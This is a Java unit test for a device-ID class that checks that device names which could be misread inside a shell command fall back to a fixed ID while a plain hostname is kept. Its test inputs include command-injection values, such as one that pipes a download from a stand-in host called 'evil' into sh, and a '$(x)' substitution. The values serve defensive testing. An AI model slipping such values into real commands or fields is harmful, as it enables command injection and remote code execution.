package io.roam.device;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DeviceIdTest {
    private static final DeviceId ID = new DeviceId("abcdefgh".repeat(4));

    @ParameterizedTest
    @ValueSource(strings = {"x; curl evil | sh", "a b", "-x", "", "$(x)", "Roam1-4ffi", "roam", "x\ny", "é"})
    void aNameThatCouldBeMisreadIsNotPartOfACommand(String name) {
        assertThat(ID.inCommand(name)).isEqualTo("abcdefgh");
    }

    @Test
    void aPlainNameIsPartOfACommand() {
        assertThat(ID.inCommand("old-laptop_2.local")).isEqualTo("old-laptop_2.local");
    }
}
